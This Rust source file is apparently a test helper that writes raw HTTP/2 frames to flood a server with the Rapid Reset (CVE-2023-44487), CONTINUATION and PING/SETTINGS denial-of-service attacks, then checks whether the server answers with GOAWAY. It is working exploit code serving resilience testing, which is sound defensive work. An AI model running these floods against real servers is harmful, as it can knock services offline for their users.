//! HTTP/2 frames written by hand (RFC 9113), in ways that no library would.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

/// A hang is a failure; nothing here takes this long.
const PATIENCE: Duration = Duration::from_secs(60);
/// Frames of one flood: far more than any peer may take.
const FLOOD: u32 = 100_000;

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `CANCEL`.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// GET / over http, by the static table of HPACK, and an authority without Huffman coding.
const REQUEST: &[u8] = b"\x82\x84\x86\x41\x09localhost";

pub(crate) struct H2Attacker(TcpStream);

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

impl H2Attacker {
    pub(crate) async fn connect(address: SocketAddr) -> Self {
        let mut stream = TcpStream::connect(address).await.unwrap();
        stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await.unwrap();
        stream.write_all(&frame(SETTINGS, 0, 0, &[])).await.unwrap();
        Self(stream)
    }

    /// Sends frames until the peer takes no more; answers whether it said goodbye.
    async fn flood(&mut self, frames: impl Iterator<Item = Vec<u8>>) -> bool {
        let (mut reader, mut writer) = self.0.split();
        let mut said = Vec::new();
        let flood = async {
            for frame in frames {
                if writer.write_all(&frame).await.is_err() {
                    break;
                }
            }
        };
        let ended = async { drop(reader.read_to_end(&mut said).await) };
        timeout(PATIENCE, async { tokio::join!(flood, ended) }).await.expect("the connection goes on");
        said_goaway(&said)
    }

    /// Opens streams and resets them at once (CVE-2023-44487).
    pub(crate) async fn rapid_reset(&mut self) -> bool {
        let frames = (0..FLOOD).map(|number| {
            let stream = 2 * number + 1;
            let mut frames = frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST);
            frames.extend(frame(RST_STREAM, 0, stream, &CANCEL));
            frames
        });
        self.flood(frames).await
    }

    /// Headers that never end (CVE-2024-27316).
    pub(crate) async fn continuation_flood(&mut self) -> bool {
        let field = [b"\x00\x01x\x7e".as_slice(), &[b'y'; 126]].concat();
        let first = frame(HEADERS, END_STREAM, 1, REQUEST);
        let more = (0..FLOOD).map(|_| frame(CONTINUATION, 0, 1, &field.repeat(100)));
        self.flood(std::iter::once(first).chain(more)).await
    }

    /// Frames that want an answer each, from somebody who reads none, and then goes.
    pub(crate) async fn settings_and_ping_flood(&mut self) {
        let mut frames = Vec::new();
        for _ in 0..1000 {
            frames.extend(frame(PING, 0, 0, &[0; 8]));
            frames.extend(frame(SETTINGS, 0, 0, &[]));
        }
        // It may take them or not: what counts is that nobody else notices.
        drop(timeout(Duration::from_secs(1), self.0.write_all(&frames)).await);
    }
}

fn said_goaway(mut bytes: &[u8]) -> bool {
    while let Some((head, rest)) = bytes.split_at_checked(9) {
        if head[3] == GOAWAY {
            return true;
        }
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let Some((_, rest)) = rest.split_at_checked(length) else { return false };
        bytes = rest;
    }
    false
}
